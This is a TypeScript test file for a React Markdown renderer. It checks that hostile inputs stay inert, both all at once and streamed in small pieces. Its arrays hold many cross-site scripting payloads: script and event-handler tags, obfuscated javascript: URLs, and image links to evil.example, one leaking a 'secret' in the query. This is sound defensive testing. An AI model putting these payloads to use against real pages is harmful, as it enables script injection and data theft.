import { cleanup, render, waitFor } from '@testing-library/react'
import { afterEach, expect, test, vi } from 'vitest'
import { createBlockReader } from './blocks.ts'
import { Markdown } from './markdown.tsx'
import { safeUrl } from './safe-url.ts'

// The reader of formulas works in standards mode only, as every page of ours is; this document says nothing of it.
vi.hoisted(() => Object.defineProperty(document, 'compatMode', { value: 'CSS1Compat' }))

afterEach(cleanup)

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'text <svg onload=alert(1)><image href="https://evil.example/x"/></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><button>x</button></form>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<video poster="https://evil.example/x"></video>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x]\n\n[x]: javascript:alert(1)',
  '[x][y]\n\n[y]: data:text/html,x "t"',
  '<javascript:alert(1)>',
  '![x](https://evil.example/?d=secret)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x][y]\n\n[y]: https://evil.example/x.png',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '| [x](javascript:alert(1)) |\n|---|\n| 1 |',
  '# <a href="javascript:alert(1)">x</a>',
  '- [ ] <input onfocus=alert(1) autofocus>',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\n1\n```',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '> <details ontoggle=alert(1) open>',
  'https://evil.example/"onmouseover="alert(1)',
  '<https://evil.example/"onclick="alert(1)>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '&lt;img src=x onerror=alert(1)&gt;',
  '```mermaid\ngraph TD\nclick A "javascript:alert(1)"\nA["<img src=x onerror=alert(1)>"]\n```',
  '```mermaid\n%%{init: {"securityLevel": "loose", "__proto__": {"x": 1}}}%%\nxychart-beta\nx-axis 0 --> 1e308\n```',
]

const allowedTags = new Set(
  'ANNOTATION MATH MI MN MO MROW MSTYLE MTEXT MSPACE SEMANTICS A BLOCKQUOTE BR BUTTON CODE DEL DIV EM FIGCAPTION FIGURE H2 H3 H4 H5 H6 HR INPUT LI OL P PATH RECT POLYLINE LINE PRE SPAN STRONG SVG TABLE TBODY TD TH THEAD TR UL'.split(
    ' ',
  ),
)

function expectInert(root: HTMLElement, source: string) {
  for (const element of root.querySelectorAll('*')) {
    expect(allowedTags, `${element.tagName} from ${source}`).toContain(element.tagName.toUpperCase())
    for (const { name, value } of element.attributes) {
      expect(name.startsWith('on'), `${name} from ${source}`).toBe(false)
      expect(['src', 'srcset', 'srcdoc', 'action', 'formaction', 'style', 'poster'], source).not.toContain(
        name,
      )
      if (name !== 'href') continue
      expect(value, source).toMatch(/^(https?|mailto):/)
      expect(element.getAttribute('rel'), source).toBe('noopener noreferrer')
      expect(element.getAttribute('target'), source).toBe('_blank')
    }
    if (element.tagName === 'INPUT') expect(element.getAttribute('type')).toBe('checkbox')
  }
}

const longOnABusyMachine = 60_000

function expectInertStreamed(sources: readonly string[]) {
  for (const source of sources) {
    const whole = render(<Markdown text={source} />)
    expectInert(whole.container, source)
    const finished = whole.container.innerHTML
    whole.unmount()
    for (const step of [1, 2, 3]) {
      const streamed = render(<Markdown text="" writing />)
      for (let end = step; end < source.length + step; end += step) {
        streamed.rerender(<Markdown text={source.slice(0, end)} writing />)
        expectInert(streamed.container, source)
      }
      streamed.rerender(<Markdown text={source} />)
      expect(streamed.container.innerHTML).toBe(finished)
      streamed.unmount()
    }
  }
}

test(
  'hostile Markdown is inert: at once, and streamed in pieces of one to three characters',
  {
    timeout: longOnABusyMachine,
  },
  () => expectInertStreamed(hostile),
)

const hostileFormulas = [
  '$<img src=x onerror=alert(1)>$',
  '$$\\href{javascript:alert(1)}{x}$$',
  'in $\\url{javascript:alert(1)}$ line',
  '\\(<script>alert(1)</script>\\) and \\[<svg onload=alert(1)>\\]',
  '$$\n\\htmlStyle{background:url(https://evil.example)}{x}\n$$',
  '| $\\includegraphics{https://evil.example/x.png}$ |\n|---|\n| $\\text{<b>}$ |',
]

test('hostile formulas are inert: at once, and streamed in pieces of one to three characters', {
  timeout: longOnABusyMachine,
}, async () => {
  // With the reader of formulas there, what follows is drawn at once.
  const first = render(<Markdown text="$x$" />)
  await waitFor(() => expect(first.container.querySelector('math')).not.toBeNull())
  first.unmount()
  expectInertStreamed(hostileFormulas)
})

test('raw HTML is shown as the text it is', () => {
  const { container } = render(<Markdown text={'<b onclick="x">bold</b>\n\nand <i>this</i>'} />)
  expect(container.textContent).toContain('<b onclick="x">bold</b>')
  expect(container.textContent).toContain('<i>this</i>')
})

test('headings begin below that of the page and skip no level', () => {
  const { container } = render(<Markdown text={'### a\n\n# b\n\n### c\n\n#### d'} />)
  const tags = [...container.querySelectorAll('h1, h2, h3, h4, h5, h6')].map(({ tagName }) => tagName)
  expect(tags).toEqual(['H2', 'H2', 'H3', 'H4'])
})

test('no image is fetched; its host is shown and a press opens it', () => {
  const { container } = render(<Markdown text="![cat](https://images.example/cat.png)" />)
  expect(container.querySelector('img')).toBeNull()
  expect(container.textContent).toContain('from images.example')
})

const samples = [
  '# Title\n\nA paragraph\nover lines.\n\n- one\n- two\n\n  more of two\n\n- three\n\n1. a\n2. b\n\n2',
  'Text\n\n```js\nconst a = 1\n\n\nconst b = 2\n```\n\nafter ~~del~~ **bold *both***\n\n---\n\n> quote\n> more\n\nlazy',
  '| a | b |\n|:--|--:|\n| 1 | `x` |\n| 2 | y |\n\n- [ ] todo\n- [x] done\n\nSetext\n======\n\n    code\n\nend',
  '1. first\n\n   ```\n   in list\n   ```\n\n2. second\n   - nested\n     - deeper\n\nsee [ref] and [other][ref]\n\n[ref]: https://example.org "t"\n\ntail',
  '<div>\nhtml\n</div>\n\ntext &amp; &lt;b&gt; &copy; https://example.org/a_b_c\n\n* star\n\n+ plus\n\n- dash\n\n-',
  'It costs $5 and $10, or $x$.\n\n$$\na^2 + b^2\n= c^2\n$$\n\n- in a list \\(x_1\\)\n- $$y$$\n\n\\[\n\\frac{1}{2}\n\\]\n\ntail $z',
]

test('a text that grows gives in the end the blocks that it gives at once', () => {
  for (const source of samples) {
    for (const step of [1, 2, 3, 7]) {
      const read = createBlockReader()
      for (let end = step; end < source.length; end += step) read(source.slice(0, end))
      const grown = read(source)
      expect(grown.map(block => block.raw).join('')).toBe(source)
      expect(JSON.stringify(grown)).toBe(JSON.stringify(createBlockReader()(source)))
    }
  }
})

test('blocks that are settled keep their identity while the text grows', () => {
  const read = createBlockReader()
  const start = Array.from({ length: 50 }, (_, index) => `Paragraph ${index}`).join('\n\n')
  const before = read(start)
  const after = read(`${start}\n\nOne more`)
  const kept = before.filter((block, index) => after[index] === block)
  expect(kept.length).toBeGreaterThan(before.length - 5)
})

test('an address is judged after the parser had it', () => {
  expect(safeUrl('HTTPS://Example.org/x')).toBe('https://example.org/x')
  expect(safeUrl('mailto:ada@example.org')).toBe('mailto:ada@example.org')
  for (const bad of [
    'javascript:1',
    ' java\nscript:1',
    'blob:https://x',
    '/path',
    '#x',
    '',
    'http://',
    'ftp://x',
  ]) {
    expect(safeUrl(bad)).toBeNull()
  }
})
